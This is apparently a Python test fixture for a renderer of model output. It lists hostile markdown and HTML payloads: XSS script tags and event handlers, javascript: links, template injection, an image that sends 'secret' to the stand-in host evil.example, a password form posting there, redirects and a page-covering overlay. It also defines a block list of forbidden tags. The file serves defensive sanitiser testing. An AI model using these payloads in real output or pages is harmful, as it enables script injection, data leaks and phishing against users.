"""Texts of models that would like to run something, load something or cover the page."""

__all__ = ["FAR", "FORBIDDEN", "HOSTILE"]

FAR = "http://evil.example"
HOSTILE = {
    "script": "<script>window.hacked = 1</script>",
    "handler": '<img src="x" onerror="window.hacked = 1"><b onmouseover="window.hacked = 1">x</b>',
    "javascript link": "[click](javascript:window.hacked=1) <a href='javascript:window.hacked=1'>x</a>",
    "data link": "[click](data:text/html,<script>parent.hacked=1</script>)",
    "svg": '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
    "remote image": f"![see]({FAR}/pixel.png?q=secret) <img src='{FAR}/pixel.png'>",
    "reference image": f"![see][1]\n\n[1]: {FAR}/pixel.png",
    "remote media": f"<video src='{FAR}/a.mp4' autoplay></video><audio src='{FAR}/a.mp3'></audio>",
    "style": f"<style>@import '{FAR}/x.css'; body {{ background: url({FAR}/x.png) }}</style>",
    "inline style": f"<p style=\"background:url('{FAR}/x.png')\">x</p>",
    "form": f"<form action='{FAR}'><input name='password'><button>Sign in</button></form>",
    "frame": f"<iframe src='{FAR}'></iframe><object data='{FAR}'></object><embed src='{FAR}'>",
    "overlay": "<div style='position:fixed;inset:0;z-index:9999;background:red'>Sign in</div>",
    "our own parts": '<button class="act-again" data-act="mode" id="composer-input">x</button>',
    "in a fence": "```html\n<script>window.hacked = 1</script>\n```",
    "bad language": '```"><script>window.hacked=1</script>\nx\n```',
    "in a table": "| <img src=x onerror=window.hacked=1> |\n| --- |\n| <svg onload=window.hacked=1> |",
    "meta": f"<meta http-equiv='refresh' content='0;url={FAR}'><base href='{FAR}'>",
    "link element": f"<link rel='stylesheet' href='{FAR}/x.css'><link rel=prefetch href='{FAR}'>",
    "broken": "<img src=`x` onerror=window.hacked=1//<div/onclick=window.hacked=1>",
    "entity": "[x](&#106;avascript:window.hacked=1) &lt;script&gt;window.hacked=1&lt;/script&gt;",
    "handlebars": "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1} {{{x}}}",
    "mermaid": '```mermaid\ngraph TD; A["<img src=x onerror=window.hacked=1>"]\n```',
    "math": "$$\\href{javascript:window.hacked=1}{x}$$ $\\includegraphics{http://evil.example/x.png}$",
}
FORBIDDEN = "img, svg, video, audio, iframe, object, embed, form, input, style, script, meta, link"
